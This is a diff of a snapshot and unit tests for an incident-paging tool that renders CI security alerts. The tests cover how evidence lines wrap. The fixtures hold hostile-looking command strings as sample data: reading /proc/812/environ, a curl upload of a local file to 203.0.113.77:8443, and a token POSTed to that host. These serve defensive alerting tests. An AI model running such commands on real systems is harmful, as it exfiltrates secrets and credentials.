@@ -36,9 +36,12 @@ Origin    restored a cache entry saved by fork PR #41 of acme/tooling (pull_requ
 Secrets   REGISTRY_TOKEN, LEDGER_KEY (rotate them)
 Evidence
   2026-11-02 00:02:07Z  falco           fork PR #41 of acme/tooling wrote to a shared cache
-  2026-11-23 00:11:07Z  github-webhook  nightly #812 of acme/payments restored a cache entry a for…
-  2026-11-23 00:12:36Z  falco           Read environment: cat /proc/812/environ file /proc/812/env…
-  2026-11-23 00:13:07Z  egress          allow POST http://203.0.113.77/in?token=[masked] 3981 byte…
+  2026-11-23 00:11:07Z  github-webhook  nightly #812 of acme/payments restored a cache entry a
+      fork had saved
+  2026-11-23 00:12:36Z  falco           Read environment: cat /proc/812/environ file
+      /proc/812/environ
+  2026-11-23 00:13:07Z  egress          allow POST http://203.0.113.77/in?token=[masked] 3981
+      bytes out by curl
 Do now
   1. Cancel the run.
   2. Rotate REGISTRY_TOKEN and LEDGER_KEY.
@@ -127,7 +130,7 @@ Paged 300 ms after the last event was received.
     expect(joinOf("exact")).not.toContain("joined by");
   });
 
-  it("stays within about 25 lines and its width, however much there is", () => {
+  it("stays within about 30 lines and its width, however much there is", () => {
     const timeline = new Timeline();
     for (let index = 0; index < 40; index++) {
       timeline.step({
@@ -144,10 +147,52 @@ Paged 300 ms after the last event was received.
       });
     }
     const lines = renderPage(timeline.notices.at(-1)!, { width: 80 }).split("\n");
-    expect(lines.length).toBeLessThanOrEqual(28);
+    expect(lines.length).toBeLessThanOrEqual(32);
     expect(lines.filter((line) => line.length > 90)).toEqual([]);
     expect(lines.filter((line) => line.startsWith("  2026"))).toHaveLength(6);
     expect(lines.join("\n")).toContain("S11 and 28 more");
+  });
+
+  it.each([
+    [
+      "an address behind a long command",
+      "curl --silent --show-error --retry 3 --data-binary @/tmp/work/state.bin 203.0.113.77:8443",
+      [
+        "  2026-11-23 00:13:07Z  falco  Shell: curl --silent --show-error --retry 3 --data-binary",
+        "      @/tmp/work/state.bin 203.0.113.77:8443",
+      ],
+    ],
+    [
+      "a cache key that fills a line",
+      `GET http://cache.example/shared/${"deep/".repeat(9)}toolchain.tar.zst`,
+      [
+        "  2026-11-23 00:13:07Z  falco  Shell: GET",
+        `      http://cache.example/shared/${"deep/".repeat(9)}toolchain.tar.zst`,
+      ],
+    ],
+    [
+      "more than two lines hold, cut in the middle",
+      `http://203.0.113.77/${"x".repeat(400)}/the-end`,
+      [
+        `  2026-11-23 00:13:07Z  falco  Shell: http://203.0.113.77/${"x".repeat(40)}`,
+        `      ${"x".repeat(13)}…${"x".repeat(72)}/the-end`,
+      ],
+    ],
+  ])("keeps in its evidence %s", (_, command, wanted) => {
+    const fields = { "rule.name": "Shell", "process.command_line": command };
+    const [page] = noticesOf({ id: "1", rule: loud, at: midnight, fields });
+    const lines = renderPage(page!).split("\n");
+    const from = lines.indexOf("Evidence") + 1;
+    expect(lines.slice(from, lines.indexOf("Do now"))).toEqual(wanted);
+    expect(wanted.every((line) => line.length <= 100)).toBe(true);
+  });
+
+  it("cuts no character of two halves in two", () => {
+    for (const pad of ["", "a"]) {
+      const fields = { "process.command_line": `${pad}${"\u{1F600}".repeat(300)}` };
+      const [page] = noticesOf({ id: "1", rule: loud, at: midnight, fields });
+      expect(renderPage(page!).isWellFormed()).toBe(true);
+    }
   });
 
   it("keeps the leading alert's event among the six, oldest first", () => {
